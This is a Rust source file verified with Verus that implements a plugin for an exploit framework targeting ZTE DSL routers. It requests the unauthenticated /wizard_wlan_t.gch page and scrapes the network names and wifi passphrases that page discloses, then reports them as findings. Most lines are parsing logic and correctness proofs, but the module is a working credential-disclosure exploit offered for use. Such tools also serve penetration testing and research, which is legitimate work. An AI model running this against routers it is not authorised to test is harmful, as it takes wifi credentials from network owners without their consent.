use vstd::prelude::*;
use vstd::string::*;
use crate::plugin::{
    findings_view, rows_view, Finding, FindingV, Module, OptionRow, OptionRowV, Request,
};
use crate::store::{display_of, OptionStore};

verus! {

// The wizard page of the targeted routers discloses each wifi setting as a
// line of script text of the shape
//
//     Transfer_meaning('TAG','VALUE');
//
// The scanner below reads that grammar: after the opening text for a tag,
// the value runs to the nearest closing text `');`, and never across a line
// break. Occurrences are read left to right and do not overlap.
/// The opening text before a value disclosed under `tag`.
pub open spec fn marker(tag: Seq<char>) -> Seq<char> {
    "Transfer_meaning('"@ + tag + "','"@
}

/// The least position at or after `j` where the closing text `');` stands,
/// if no line break comes first.
pub open spec fn find_close(s: Seq<char>, j: int) -> Option<int>
    decreases s.len() - j,
    when 0 <= j <= s.len()
{
    if j + 3 > s.len() {
        None
    } else if s.subrange(j, j + 3) == "');"@ {
        Some(j)
    } else if s[j] == '\n' {
        None
    } else {
        find_close(s, j + 1)
    }
}

/// Whether the opening text for `tag` stands in `s` at `pos`.
pub open spec fn marker_at(s: Seq<char>, tag: Seq<char>, pos: int) -> bool {
    pos + marker(tag).len() <= s.len() && s.subrange(pos, pos + marker(tag).len()) == marker(tag)
}

/// A found closing position lies at or after where the search began, and
/// leaves room for the closing text.
proof fn lemma_find_close_bounds(s: Seq<char>, j: int)
    requires
        0 <= j <= s.len(),
        find_close(s, j) is Some,
    ensures
        j <= find_close(s, j).unwrap(),
        find_close(s, j).unwrap() + 3 <= s.len(),
    decreases s.len() - j,
{
    if j + 3 > s.len() {
    } else if s.subrange(j, j + 3) == "');"@ {
    } else if s[j] == '\n' {
    } else {
        lemma_find_close_bounds(s, j + 1);
    }
}

/// The values disclosed under `tag` from `pos` on: at each opening text
/// whose value finds its closing text, the value, then the rest after it.
pub open spec fn scrape_from(s: Seq<char>, tag: Seq<char>, pos: int) -> Seq<Seq<char>>
    decreases s.len() - pos,
    when 0 <= pos <= s.len()
    via scrape_from_dec
{
    if pos >= s.len() {
        Seq::empty()
    } else if marker_at(s, tag, pos) && find_close(s, pos + marker(tag).len()) is Some {
        let m = pos + marker(tag).len();
        let j = find_close(s, m).unwrap();
        seq![s.subrange(m, j)] + scrape_from(s, tag, j + 3)
    } else {
        scrape_from(s, tag, pos + 1)
    }
}

#[via_fn]
proof fn scrape_from_dec(s: Seq<char>, tag: Seq<char>, pos: int) {
    if 0 <= pos < s.len() && marker_at(s, tag, pos) && find_close(s, pos + marker(tag).len())
        is Some {
        lemma_find_close_bounds(s, pos + marker(tag).len());
    }
}

/// Every value the text discloses under `tag`, left to right.
pub open spec fn scraped(s: Seq<char>, tag: Seq<char>) -> Seq<Seq<char>> {
    scrape_from(s, tag, 0)
}

/// Whether `pat` stands in `text` at `pos`.
fn pattern_at(text: &str, pos: usize, pat: &str) -> (r: bool)
    ensures
        r == (pos + pat@.len() <= text@.len() && text@.subrange(
            pos as int,
            pos as int + pat@.len(),
        ) == pat@),
{
    let n = text.unicode_len();
    let m = pat.unicode_len();
    if pos > n || m > n - pos {
        return false;
    }
    let mut k: usize = 0;
    while k < m
        invariant
            k <= m,
            m == pat@.len(),
            n == text@.len(),
            pos + m <= n,
            forall|t: int| 0 <= t < k ==> text@[pos + t] == pat@[t],
        decreases m - k,
    {
        if text.get_char(pos + k) != pat.get_char(k) {
            proof {
                let ghost ki = k as int;
                assert(text@.subrange(pos as int, pos as int + pat@.len())[ki] != pat@[ki]);
            }
            return false;
        }
        k = k + 1;
    }
    proof {
        assert(text@.subrange(pos as int, pos as int + pat@.len()) =~= pat@);
    }
    true
}

/// The closing position for a value search begun at `m`, as `find_close`
/// names it.
fn find_close_at(text: &str, m: usize) -> (r: Option<usize>)
    requires
        m <= text@.len(),
    ensures
        match r {
            Some(j) => find_close(text@, m as int) == Some(j as int),
            None => find_close(text@, m as int) is None,
        },
{
    proof {
        reveal_strlit("');");
    }
    let n = text.unicode_len();
    let mut j: usize = m;
    while n - j >= 3
        invariant
            m <= j <= n,
            n == text@.len(),
            find_close(text@, m as int) == find_close(text@, j as int),
        decreases n - j,
    {
        if pattern_at(text, j, "');") {
            proof {
                reveal_strlit("');");
                assert("');"@.len() == 3);
                assert(text@.subrange(j as int, j as int + 3) == "');"@);
                assert(find_close(text@, j as int) == Some(j as int));
            }
            return Some(j);
        }
        if text.get_char(j) == '\n' {
            return None;
        }
        j = j + 1;
    }
    None
}

/// Every value disclosed under `tag` in `text`, in order.
fn scrape_values(text: &str, tag: &str) -> (r: Vec<String>)
    ensures
        r@.map_values(|v: String| v@) == scraped(text@, tag@),
{
    let mut mk = String::from_str("Transfer_meaning('");
    mk.append(tag);
    mk.append("','");
    proof {
        assert(mk@ =~= marker(tag@));
    }
    let mklen = mk.as_str().unicode_len();
    let n = text.unicode_len();
    let mut r: Vec<String> = Vec::new();
    let mut pos: usize = 0;
    proof {
        assert(r@.map_values(|v: String| v@) =~~= Seq::<Seq<char>>::empty());
    }
    while pos < n
        invariant
            pos <= n,
            n == text@.len(),
            mk@ == marker(tag@),
            mklen == mk@.len(),
            scraped(text@, tag@) == r@.map_values(|v: String| v@) + scrape_from(
                text@,
                tag@,
                pos as int,
            ),
        decreases n - pos,
    {
        if pattern_at(text, pos, mk.as_str()) {
            let m = pos + mklen;
            match find_close_at(text, m) {
                Some(j) => {
                    proof {
                        lemma_find_close_bounds(text@, m as int);
                    }
                    let val = text.substring_char(m, j).to_owned();
                    let ghost prev = r@.map_values(|v: String| v@);
                    r.push(val);
                    proof {
                        assert(r@.map_values(|v: String| v@) =~~= prev.push(
                            text@.subrange(m as int, j as int),
                        ));
                        assert(scrape_from(text@, tag@, pos as int) == seq![
                            text@.subrange(m as int, j as int),
                        ] + scrape_from(text@, tag@, j as int + 3));
                        assert(prev.push(text@.subrange(m as int, j as int)) + scrape_from(
                            text@,
                            tag@,
                            j as int + 3,
                        ) =~~= prev + scrape_from(text@, tag@, pos as int));
                    }
                    pos = j + 3;
                },
                None => {
                    pos = pos + 1;
                },
            }
        } else {
            pos = pos + 1;
        }
    }
    proof {
        assert(scraped(text@, tag@) =~~= r@.map_values(|v: String| v@));
    }
    r
}

/// The nonempty values among `vs`, each as a finding under `label`, in order.
pub open spec fn labeled_nonempty(vs: Seq<Seq<char>>, label: Seq<char>) -> Seq<FindingV>
    decreases vs.len(),
{
    if vs.len() == 0 {
        Seq::empty()
    } else {
        labeled_nonempty(vs.drop_last(), label) + (if vs.last().len() > 0 {
            seq![FindingV { label: label, value: vs.last() }]
        } else {
            Seq::empty()
        })
    }
}

/// Append a finding under `label` for each nonempty value.
fn push_findings(out: &mut Vec<Finding>, vals: &Vec<String>, label: &str)
    ensures
        findings_view(final (out)@) == findings_view(old(out)@) + labeled_nonempty(
            vals@.map_values(|v: String| v@),
            label@,
        ),
{
    let ghost vv = vals@.map_values(|v: String| v@);
    let n = vals.len();
    let mut i: usize = 0;
    proof {
        assert(vv.take(0) =~~= Seq::<Seq<char>>::empty());
        assert(findings_view(out@) =~~= findings_view(old(out)@) + labeled_nonempty(
            vv.take(0),
            label@,
        ));
    }
    while i < n
        invariant
            i <= n,
            n == vals@.len(),
            vv == vals@.map_values(|v: String| v@),
            findings_view(out@) == findings_view(old(out)@) + labeled_nonempty(
                vv.take(i as int),
                label@,
            ),
        decreases n - i,
    {
        proof {
            assert(vv.take(i as int + 1).drop_last() =~~= vv.take(i as int));
            assert(vv.take(i as int + 1).last() == vv[i as int]);
        }
        let ghost prev = findings_view(out@);
        if !vals[i].as_str().is_empty() {
            out.push(Finding { label: label.to_owned(), value: vals[i].clone() });
            proof {
                assert(findings_view(out@) =~~= prev.push(
                    FindingV { label: label@, value: vv[i as int] },
                ));
                assert(findings_view(out@) =~~= findings_view(old(out)@) + labeled_nonempty(
                    vv.take(i as int + 1),
                    label@,
                ));
            }
        } else {
            proof {
                assert(findings_view(out@) =~~= findings_view(old(out)@) + labeled_nonempty(
                    vv.take(i as int + 1),
                    label@,
                ));
            }
        }
        i = i + 1;
    }
    proof {
        assert(vv.take(n as int) =~~= vv);
    }
}

/// The findings the wizard page text yields: every nonempty network name,
/// labeled ESSID, then every nonempty passphrase, labeled PASSW.
pub open spec fn zte_findings(response: Seq<char>) -> Seq<FindingV> {
    labeled_nonempty(scraped(response, "ESSID"@), "ESSID"@) + labeled_nonempty(
        scraped(response, "KeyPassphrase"@),
        "PASSW"@,
    )
}

/// The wizard page URL for the configured host and port.
pub open spec fn zte_url(cfg: Map<Seq<char>, Seq<char>>) -> Seq<char> {
    "http://"@ + display_of(cfg, "rhost"@) + ":"@ + display_of(cfg, "rport"@)
        + "/wizard_wlan_t.gch"@
}

/// What running decides on a configuration: without `rhost`, the failure to
/// report; with it, the wizard page request.
pub open spec fn zte_run(cfg: Map<Seq<char>, Seq<char>>) -> Result<Seq<char>, Seq<char>> {
    if cfg.contains_key("rhost"@) {
        Ok(zte_url(cfg))
    } else {
        Err("exploit failed: rhost was not set."@)
    }
}

/// The parameters the module declares: the target port, preset and optional,
/// and the target host, required.
pub open spec fn zte_decl() -> Seq<OptionRowV> {
    seq![
        OptionRowV { key: "rport"@, description: "remote target port"@, optional: true },
        OptionRowV { key: "rhost"@, description: "remote target host"@, optional: false },
    ]
}

/// A wifi-configuration disclosure check for a line of DSL routers: asks its
/// host to fetch the router's wizard page and reports the network names and
/// passphrases that page leaks.
pub struct ExploitZTEWifiDisclosure {
    pub opts: OptionStore,
}

impl Module for ExploitZTEWifiDisclosure {
    open spec fn cfg(&self) -> Map<Seq<char>, Seq<char>> {
        self.opts@
    }

    open spec fn decl(&self) -> Seq<OptionRowV> {
        zte_decl()
    }

    open spec fn help_spec(&self) -> Seq<char> {
        "Exploit that targets ZTE routers' unauthorized wifi password disclosure vulnerability"@
    }

    open spec fn run_spec(&self) -> Result<Seq<char>, Seq<char>> {
        zte_run(self.opts@)
    }

    open spec fn conclude_spec(&self, response: Seq<char>) -> Seq<FindingV> {
        zte_findings(response)
    }

    fn help(&self) -> (r: String) {
        String::from_str(
            "Exploit that targets ZTE routers' unauthorized wifi password disclosure vulnerability",
        )
    }

    fn options(&self) -> (r: Vec<OptionRow>) {
        let mut rows: Vec<OptionRow> = Vec::new();
        rows.push(
            OptionRow {
                key: String::from_str("rport"),
                description: String::from_str("remote target port"),
                optional: true,
            },
        );
        rows.push(
            OptionRow {
                key: String::from_str("rhost"),
                description: String::from_str("remote target host"),
                optional: false,
            },
        );
        proof {
            assert(rows_view(rows@) =~~= zte_decl());
        }
        rows
    }

    fn set(&mut self, k: String, v: String) {
        self.opts.set(k, v);
    }

    fn get(&self, k: String) -> (r: String) {
        self.opts.display(&k)
    }

    fn run(&self) -> (r: Result<Request, String>) {
        let rhost_key = String::from_str("rhost");
        if !self.opts.contains(&rhost_key) {
            return Err(String::from_str("exploit failed: rhost was not set."));
        }
        let rport_key = String::from_str("rport");
        let host = self.opts.display(&rhost_key);
        let port = self.opts.display(&rport_key);
        let mut url = String::from_str("http://");
        url.append(host.as_str());
        url.append(":");
        url.append(port.as_str());
        url.append("/wizard_wlan_t.gch");
        proof {
            assert(url@ =~= zte_url(self.opts@));
        }
        Ok(Request { url })
    }

    fn conclude(&self, response: &str) -> (r: Vec<Finding>) {
        let mut out: Vec<Finding> = Vec::new();
        proof {
            assert(findings_view(out@) =~~= Seq::<FindingV>::empty());
        }
        let essids = scrape_values(response, "ESSID");
        push_findings(&mut out, &essids, "ESSID");
        let passes = scrape_values(response, "KeyPassphrase");
        push_findings(&mut out, &passes, "PASSW");
        proof {
            assert(findings_view(out@) =~~= zte_findings(response@));
        }
        out
    }
}

/// The factory a module library exports under the fixed entry symbol: the
/// host calls it, with no arguments, to obtain the module instance. Here it
/// yields the disclosure module with its port preset to 80 and its host
/// unset.
pub fn get_plugin() -> (m: ExploitZTEWifiDisclosure)
    ensures
        m.cfg() == Map::<Seq<char>, Seq<char>>::empty().insert("rport"@, "80"@),
        m.decl() == zte_decl(),
{
    let mut opts = OptionStore::new();
    opts.set(String::from_str("rport"), String::from_str("80"));
    ExploitZTEWifiDisclosure { opts }
}

} // verus!
